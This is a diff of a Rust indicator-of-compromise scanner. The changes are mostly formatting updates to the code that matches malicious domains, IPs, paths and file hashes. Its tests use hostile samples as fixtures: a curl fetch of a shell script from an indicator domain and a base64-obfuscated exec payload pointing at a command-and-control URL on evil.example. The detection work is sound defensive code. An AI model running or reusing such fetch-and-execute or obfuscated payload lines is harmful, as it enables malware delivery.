@@ -172,7 +172,8 @@ fn normalise(ind: &mut Indicator) -> Result<(), String> {
             ind.value = v.to_ascii_lowercase();
         }
         IndicatorKind::Domain | IndicatorKind::Url | IndicatorKind::Ip => {
-            if v.len() < MIN_PATTERN || v.bytes().any(|b| b.is_ascii_whitespace() || !b.is_ascii()) {
+            if v.len() < MIN_PATTERN || v.bytes().any(|b| b.is_ascii_whitespace() || !b.is_ascii())
+            {
                 return Err(format!(
                     "{} `{v}` must be ASCII, without spaces, at least {MIN_PATTERN} characters",
                     ind.kind.as_str()
@@ -184,7 +185,9 @@ fn normalise(ind: &mut Indicator) -> Result<(), String> {
         }
         IndicatorKind::Path => {
             if !v.starts_with("~/") || v.split('/').any(|c| c == "..") {
-                return Err(format!("path `{v}` must start with `~/` and not contain `..`"));
+                return Err(format!(
+                    "path `{v}` must start with `~/` and not contain `..`"
+                ));
             }
         }
         IndicatorKind::Filename => {
@@ -340,7 +343,9 @@ impl IocMatcher {
             let Some(&idx) = self.pattern_indicator.get(m.pattern().as_usize()) else {
                 continue;
             };
-            let Some(ind) = self.indicator(idx) else { continue };
+            let Some(ind) = self.indicator(idx) else {
+                continue;
+            };
             if bounded(bytes, m.start(), m.end(), ind.kind) {
                 found(idx, m.start());
             }
@@ -358,15 +363,17 @@ fn bounded(bytes: &[u8], start: usize, end: usize, kind: IndicatorKind) -> bool 
     let after2 = bytes.get(end + 1).copied();
     match kind {
         IndicatorKind::Domain => {
-            !before.is_some_and(label)
-                && !after.is_some_and(label)
-                && !(after == Some(b'.') && after2.is_some_and(label))
+            let glued_before = before.is_some_and(label);
+            let glued_after =
+                after.is_some_and(label) || (after == Some(b'.') && after2.is_some_and(label));
+            !glued_before && !glued_after
         }
         IndicatorKind::Ip => {
             let ipch = |b: u8| b.is_ascii_digit() || b == b'.';
-            !before.is_some_and(ipch)
-                && !after.is_some_and(|b| b.is_ascii_digit())
-                && !(after == Some(b'.') && after2.is_some_and(|b| b.is_ascii_digit()))
+            let digit = |b: u8| b.is_ascii_digit();
+            let glued_after =
+                after.is_some_and(digit) || (after == Some(b'.') && after2.is_some_and(digit));
+            !before.is_some_and(ipch) && !glued_after
         }
         _ => !before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-'),
     }
@@ -538,7 +545,7 @@ pub fn scan_site_dir(
             }
         }
     }
-    let results: Vec<(PathBuf, Result<(u64, Vec<ContentHit>), String>)> = files
+    let results: Vec<(PathBuf, ScanResult)> = files
         .into_par_iter()
         .map(|path| {
             let r = scan_one(&path, matcher, opts, verify);
@@ -557,9 +564,9 @@ pub fn scan_site_dir(
             Err(e) => report.errors.push(InputError::new(&path, e)),
         }
     }
-    report.hits.sort_by(|a, b| {
-        (&a.path, &a.indicator, &a.by).cmp(&(&b.path, &b.indicator, &b.by))
-    });
+    report
+        .hits
+        .sort_by(|a, b| (&a.path, &a.indicator, &a.by).cmp(&(&b.path, &b.indicator, &b.by)));
     report.hits.dedup();
     report
 }
@@ -623,10 +630,9 @@ fn files_to_read(site_dir: &Path, opts: &IocScanOptions, report: &mut IocReport)
         let entry = match item {
             Ok(e) => e,
             Err(e) => {
-                report.errors.push(InputError::new(
-                    e.path().unwrap_or(site_dir),
-                    e.to_string(),
-                ));
+                report
+                    .errors
+                    .push(InputError::new(e.path().unwrap_or(site_dir), e.to_string()));
                 continue;
             }
         };
@@ -650,12 +656,15 @@ fn files_to_read(site_dir: &Path, opts: &IocScanOptions, report: &mut IocReport)
     out
 }
 
+/// Bytes read and hits, or why the file was not read.
+type ScanResult = Result<(u64, Vec<ContentHit>), String>;
+
 fn scan_one(
     path: &Path,
     matcher: &IocMatcher,
     opts: &IocScanOptions,
     verify: Option<&VerifyReport>,
-) -> Result<(u64, Vec<ContentHit>), String> {
+) -> ScanResult {
     let meta = fs::symlink_metadata(path).map_err(|e| e.to_string())?;
     if !meta.is_file() {
         return Err("not a regular file; not read".to_string());
@@ -665,10 +674,15 @@ fn scan_one(
     // Hash once more only when verify did not already.
     if verify.is_none_or(|v| !v.sha256.contains_key(path)) {
         let digest = hashing::sha256(&bytes);
-        hits.extend(matcher.match_sha256(&digest).into_iter().map(|indicator| ContentHit {
-            indicator,
-            by: MatchedBy::Sha256,
-        }));
+        hits.extend(
+            matcher
+                .match_sha256(&digest)
+                .into_iter()
+                .map(|indicator| ContentHit {
+                    indicator,
+                    by: MatchedBy::Sha256,
+                }),
+        );
     }
     Ok((bytes.len() as u64, hits))
 }
@@ -742,10 +756,9 @@ mod tests {
 
     #[test]
     fn domain_boundaries() {
-        let m = set(
-            "[[indicator]]\nkind='domain'\nvalue='litellm.cloud'\nsource='MAL-2026-2144'\n",
-        )
-        .matcher();
+        let m =
+            set("[[indicator]]\nkind='domain'\nvalue='litellm.cloud'\nsource='MAL-2026-2144'\n")
+                .matcher();
         let hit = |s: &str| !m.match_content(s.as_bytes(), 1 << 20).is_empty();
         assert!(hit("x = 'https://models.litellm.cloud/'"));
         assert!(hit("LITELLM.CLOUD"));
@@ -762,7 +775,11 @@ mod tests {
              [[indicator]]\nkind='ip'\nvalue='23.227.203.99'\nsource='MAL-2026-99'\n",
         )
         .matcher();
-        assert_eq!(m.match_content(b"curl http://bitensor.xyz/realtek.sh", 1 << 20).len(), 1);
+        assert_eq!(
+            m.match_content(b"curl http://bitensor.xyz/realtek.sh", 1 << 20)
+                .len(),
+            1
+        );
         assert_eq!(m.match_content(b"host=23.227.203.99:80", 1 << 20).len(), 1);
         assert!(m.match_content(b"123.227.203.99", 1 << 20).is_empty());
         assert!(m.match_content(b"23.227.203.991", 1 << 20).is_empty());
@@ -770,13 +787,17 @@ mod tests {
 
     #[test]
     fn base64_payload_decoded_once() {
-        let m = set("[[indicator]]\nkind='domain'\nvalue='evil.example'\nsource='test'\n").matcher();
+        let m =
+            set("[[indicator]]\nkind='domain'\nvalue='evil.example'\nsource='test'\n").matcher();
         let inner = base64::engine::general_purpose::STANDARD
             .encode(b"import os; URL = 'https://c2.evil.example/x' # padding padding");
         let text = format!("exec(base64.b64decode(\"{inner}\"))");
         let hits = m.match_content(text.as_bytes(), 1 << 20);
         assert_eq!(hits.len(), 1);
-        assert!(matches!(hits[0].by, MatchedBy::Base64 { blob_offset: 23 }), "{hits:?}");
+        assert!(
+            matches!(hits[0].by, MatchedBy::Base64 { blob_offset: 23 }),
+            "{hits:?}"
+        );
         // Nested base64 is not decoded twice.
         let twice = base64::engine::general_purpose::STANDARD.encode(inner.as_bytes());
         assert!(m.match_content(twice.as_bytes(), 1 << 20).is_empty());
